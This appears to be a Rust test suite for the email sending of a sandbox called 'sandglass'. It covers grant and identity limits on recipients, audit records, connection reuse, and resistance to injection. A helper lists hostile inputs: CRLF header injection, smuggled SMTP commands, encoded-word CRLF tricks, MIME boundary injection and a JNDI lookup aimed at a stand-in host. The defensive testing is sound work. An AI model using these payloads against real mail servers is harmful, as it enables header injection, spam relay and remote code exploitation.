//! Mail: what a grant and an identity let out, and that nothing a template writes becomes a header, a command or a
//! further recipient. The bytes are looked at as they were on the wire.

use std::time::Duration;

use sandglass::config::{self, Flags, MailTls};
use sandglass::model::audit::Verdict;
use sandglass::model::grant::{Grant, Limits, Right};
use serde_json::{Value, json};

use crate::smtp::MailServer;
use crate::world::{Template, World, answers, reason};

/// One identity `default` that sends by this server.
pub fn identities(port: u16, change: impl FnOnce(&mut config::EmailIdentity)) -> config::Email {
    let mut email = config::load(&Flags::default(), std::collections::HashMap::new()).unwrap().email;
    let mut identity = config::EmailIdentity {
        host: "127.0.0.1".into(),
        port: Some(port),
        tls: MailTls::None,
        from: "sandglass@example.com".into(),
        from_name: "Sandglass".into(),
        timeout_seconds: Some(20),
        ..config::EmailIdentity::default()
    };
    change(&mut identity);
    email.identities.insert("default".to_owned(), identity);
    email
}

/// A world whose probe may send as `default`.
pub async fn world(server: &MailServer, change: impl FnOnce(&mut config::EmailIdentity)) -> (World, Template) {
    let world = World::with_email(&identities(server.port(), change));
    let template = world.load("test/probe", &[("email", "default", "send")]).await;
    (world, template)
}

pub fn mail(fields: Value) -> Value {
    let mut message = json!({ "to": ["anna@example.com"], "subject": "Hello", "text": "Good day" });
    message.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
    json!({ "op": "email", "message": message })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_message_reaches_the_server_as_it_was_asked_for_and_is_on_record() {
    let server = MailServer::friendly().await;
    let (world, template) = world(&server, |_| {}).await;
    let (run, _) = template.run(json!({ "steps": [
        mail(json!({ "cc": ["Bob <bob@example.com>"], "bcc": ["carol@example.com"], "priority": "high" })),
        mail(json!({})),
    ] }));
    let execution = run.execution;
    let answers = answers(&sandglass::sandbox::Runner::run(&world.sandbox, run).await);
    assert_eq!(answers[0]["ok"]["message_id"], format!("<{execution}.1@example.com>"), "{answers:?}");
    assert_eq!(answers[0]["ok"]["accepted"], json!(["anna@example.com", "bob@example.com", "carol@example.com"]));
    assert_eq!(answers[1]["ok"]["message_id"], format!("<{execution}.2@example.com>"), "{answers:?}");

    let conversations = server.conversations();
    assert_eq!(conversations.len(), 1, "both go over one connection");
    assert_eq!(
        conversations[0].recipients(),
        ["<anna@example.com>", "<bob@example.com>", "<carol@example.com>", "<anna@example.com>"]
    );
    let content = String::from_utf8(conversations[0].contents[0].clone()).unwrap();
    for line in [
        "From: Sandglass <sandglass@example.com>",
        "To: anna@example.com",
        "Cc: Bob <bob@example.com>",
        "X-Priority: 1 (Highest)",
        "Good day",
    ] {
        assert!(content.split("\r\n").any(|found| found == line), "{line} is missing in {content}");
    }
    assert!(!content.contains("carol"), "{content}");

    world.audit.flush().await.unwrap();
    let records = world.audit.of_execution(execution).await.unwrap();
    let seen: Vec<_> =
        records.iter().map(|one| (one.operation.as_str(), one.target.as_str(), one.usage.items)).collect();
    assert_eq!(seen, [("send", "default", 3), ("send", "default", 1)]);
    assert!(records.iter().all(|one| one.verdict == Verdict::Allowed), "{records:?}");
    assert!(world.audit.may_have_written(execution, 1).await.unwrap());
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_grant_for_identity_and_recipient_nothing_is_sent() {
    let server = MailServer::friendly().await;
    let (world, template) = world(&server, |identity| identity.messages = Some(1)).await;
    world.grant(&template, &[], Limits::default());
    let denied = world.probe(&template, json!({ "steps": [mail(json!({}))] })).await;
    assert_eq!(reason(&denied[0]), "not-granted");
    let message = denied[0]["error"]["message"].as_str().unwrap();
    let right =
        r#"{"capability":"email","target":"default","access":["send"],"extra":{"recipients":["anna@example.com"]}}"#;
    assert!(message.contains(right), "{message}");

    let narrowed = Right {
        capability: "email".into(),
        target: "*".into(),
        access: vec!["send".into()],
        extra: Some(json!({ "recipients": ["*@example.com"] })),
    };
    world.grants.set(Grant {
        template_type: template.name.clone(),
        digest: template.digest.clone(),
        rights: vec![narrowed],
        limits: Limits::default(),
    });
    let mut other = mail(json!({}));
    other["identity"] = json!("other");
    let steps = json!([mail(json!({ "bcc": ["spy@example.org"] })), other, mail(json!({})), mail(json!({})),]);
    let answers = world.probe(&template, json!({ "steps": steps })).await;
    assert_eq!((reason(&answers[0]), reason(&answers[1])), ("not-granted", "unknown-identity"), "{answers:?}");
    assert!(answers[1]["error"]["message"].as_str().unwrap().contains("[email.identities.other]"), "{answers:?}");
    assert_eq!(answers[2]["ok"]["accepted"], json!(["anna@example.com"]), "{answers:?}");
    assert_eq!(reason(&answers[3]), "message-limit");
    assert_eq!(server.contents().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_identity_says_whom_mail_may_reach_whatever_the_grant_says() {
    let server = MailServer::friendly().await;
    let (world, template) = world(&server, |it| it.allowed_recipients = vec!["*@example.com".into()]).await;
    let many: Vec<String> = (0..51).map(|number| format!("a{number}@example.com")).collect();
    let (run, _) = template.run(json!({ "steps": [
        mail(json!({ "cc": ["x@example.org"] })), mail(json!({ "bcc": ["x@example.com.evil.test"] })),
        mail(json!({ "to": many })), mail(json!({})),
    ] }));
    let execution = run.execution;
    let answers = answers(&sandglass::sandbox::Runner::run(&world.sandbox, run).await);
    let reasons: Vec<&str> = answers[..3].iter().map(reason).collect();
    assert_eq!(reasons, ["recipient-not-allowed", "recipient-not-allowed", "recipients"]);
    assert_eq!(answers[3]["ok"]["accepted"], json!(["anna@example.com"]));
    let records = world.audit.of_execution(execution).await.unwrap();
    let denied = |reason: &str| {
        records.iter().any(|one| {
            one.verdict == Verdict::Denied { reason: reason.into() }
                || one.verdict == Verdict::Limit { reason: reason.into() }
        })
    };
    assert!(denied("recipient-not-allowed") && denied("recipients"), "{records:?}");
}

/// Puts a text into one field of a message.
type Field = fn(&str) -> Value;

/// Texts that try to become something else on the wire.
fn hostile_texts() -> Vec<String> {
    let evil = "Bcc: evil@evil.test";
    let mut texts: Vec<String> = [
        "\r\n",
        "\n",
        "\r",
        "\n\r",
        "\r\r\n",
        "\u{b}",
        "\u{c}",
        "\u{85}",
        "\u{2028}",
        "\u{2029}",
        "\0",
        "\r\n ",
        "\r\n\t",
        "\n\n",
        "\r\n\r\n",
        "\u{1c}",
        "\u{1d}",
        "\u{1e}",
        "\u{1f}",
        "\u{8}",
        "\u{7f}",
        "\u{feff}\r\n",
        "\r\u{0}\n",
        "\u{e0a}\n",
        "\u{10a}\n",
        "\u{ff0a}\r\n",
    ]
    .iter()
    .flat_map(|end| [format!("x{end}{evil}"), format!("{end}{evil}{end}")])
    .collect();
    texts.extend(
        [
            "x\r\n.\r\nMAIL FROM:<evil@evil.test>\r\nRCPT TO:<evil@evil.test>\r\nDATA\r\nx\r\n.\r\n",
            "x\n.\nMAIL FROM:<evil@evil.test>\nRCPT TO:<evil@evil.test>\nDATA\n",
            "x\r.\rMAIL FROM:<evil@evil.test>\rRCPT TO:<evil@evil.test>\r",
            "x\r\n.\nRCPT TO:<evil@evil.test>",
            "x\n.\r\nRCPT TO:<evil@evil.test>",
            "\r\n.",
            ".",
            "..",
            "\n.\n",
            "=?utf-8?q?=0D=0ABcc:_evil=40evil.test?=",
            "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC50ZXN0?=",
            "=?us-ascii?Q?x=0ABcc:evil?= =?utf-8?q?=0D?=",
            "a@example.com, evil@evil.test",
            "a@example.com> RCPT TO:<evil@evil.test",
            "\" <evil@evil.test>, \"",
            "evil@evil.test\0@example.com",
            "Bcc:evil@evil.test\r\n\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b>",
            "--\r\nContent-Disposition: attachment; filename=evil.exe\r\n\r\n",
            "\u{202e}tset.live@live",
            "From evil@evil.test Thu Jan  1 00:00:00 1970",
            "\r\nContent-Type: text/html\r\n\r\n<script>evil()</script>",
            "${jndi:ldap://evil.test/x}\r\nX-Evil: 1",
        ]
        .map(str::to_owned),
    );
    texts
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_template_writes_becomes_a_header_a_command_or_a_recipient() {
    let server = MailServer::friendly().await;
    let (world, template) = world(&server, |identity| identity.messages = Some(10_000)).await;
    let fields: [(&str, Field); 14] = [
        ("subject", |text| json!({ "subject": text })),
        ("text", |text| json!({ "text": text })),
        ("html", |text| json!({ "html": text })),
        ("to", |text| json!({ "to": [text] })),
        ("to name", |text| json!({ "to": [format!("{text} <anna@example.com>")] })),
        ("to quoted name", |text| json!({ "to": [format!("\"{text}\" <anna@example.com>")] })),
        ("to local part", |text| json!({ "to": [format!("anna{text}@example.com")] })),
        ("cc domain", |text| json!({ "cc": [format!("bob@example.com{text}")] })),
        ("bcc", |text| json!({ "bcc": [text] })),
        ("reply-to", |text| json!({ "reply_to": format!("r@example.com{text}") })),
        ("header name", |text| json!({ "headers": [[format!("X-A{text}"), "v"]] })),
        ("header value", |text| json!({ "headers": [["X-A", text]] })),
        (
            "attachment name",
            |text| json!({ "attachments": [{ "name": format!("a{text}"), "content_type": "text/plain", "text": text }] }),
        ),
        ("attachment type", |text| {
            let id = format!("id{text}");
            json!({ "html": "x", "attachments": [{ "name": "a", "content_type": format!("text/plain{text}"), "content_id": id }] })
        }),
    ];
    let texts = hostile_texts();
    assert!(texts.len() >= 60, "{} texts", texts.len());
    let (mut refused, mut sent) = (0, 0);
    for (field, message) in fields {
        let steps: Vec<Value> = texts.iter().map(|text| mail(message(text))).collect();
        let answers = world.probe(&template, json!({ "steps": steps })).await;
        assert_eq!(answers.len(), texts.len());
        for (answer, text) in answers.iter().zip(&texts) {
            if answer.get("ok").is_some() {
                sent += 1;
            } else {
                let kind = answer["error"]["kind"].as_str().unwrap();
                assert!(["invalid", "denied"].contains(&kind), "{field} {text:?}: {answer}");
                refused += 1;
            }
        }
    }
    assert!(sent > texts.len() && refused > texts.len() * 6, "{sent} sent, {refused} refused");

    let known = [
        "From",
        "To",
        "Cc",
        "Reply-To",
        "Subject",
        "Date",
        "Message-ID",
        "MIME-Version",
        "Auto-Submitted",
        "X-A",
        "Content-Type",
        "Content-Transfer-Encoding",
    ];
    let mut looked_at = 0;
    for conversation in server.conversations() {
        let raw = String::from_utf8(conversation.raw.clone()).expect("only ASCII goes over the wire");
        for (place, letter) in raw.char_indices() {
            assert!(letter == '\r' || letter == '\n' || letter == '\t' || (' '..='~').contains(&letter), "{letter:?}");
            // Nothing stands alone of what a server may take for a line end.
            match letter {
                '\r' => assert_eq!(raw.as_bytes().get(place + 1), Some(&b'\n')),
                '\n' => assert_eq!(raw.as_bytes()[place - 1], b'\r'),
                _ => {}
            }
        }
        for command in &conversation.commands {
            assert!(!command.contains("evil"), "{command}");
            let verb = command.split([' ', ':']).next().unwrap();
            assert!(["EHLO", "MAIL", "RCPT", "DATA", "RSET", "QUIT"].contains(&verb), "{command}");
        }
        for recipient in conversation.recipients() {
            assert!(["<anna@example.com>", "<bob@example.com>"].contains(&recipient.as_str()), "{recipient}");
        }
        for content in &conversation.contents {
            let content = String::from_utf8(content.clone()).unwrap();
            let head = content.split("\r\n\r\n").next().unwrap();
            for line in head.split("\r\n").filter(|line| !line.starts_with([' ', '\t'])) {
                let name = line.split(':').next().unwrap();
                assert!(known.contains(&name), "the header {line:?} in {head}");
            }
            assert_eq!(head.matches("\r\nTo: ").count() + usize::from(head.starts_with("To: ")), 1, "{head}");
            looked_at += 1;
        }
    }
    assert_eq!(looked_at, sent);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_idle_connection_is_used_again_and_then_closed() {
    let server = MailServer::friendly().await;
    let mut email = identities(server.port(), |_| {});
    email.idle_seconds = 1;
    let world = World::with_email(&email);
    let template = world.load("test/probe", &[("email", "default", "send")]).await;
    for _ in 0..3 {
        world.probe(&template, json!({ "steps": [mail(json!({}))] })).await;
    }
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let conversations = server.conversations();
        if conversations.iter().all(|one| one.commands.last().is_some_and(|last| last == "QUIT")) {
            assert_eq!(server.contents().len(), 3);
            break;
        }
        assert!(tokio::time::Instant::now() < deadline, "no goodbye: {:?}", conversations[0].commands);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}
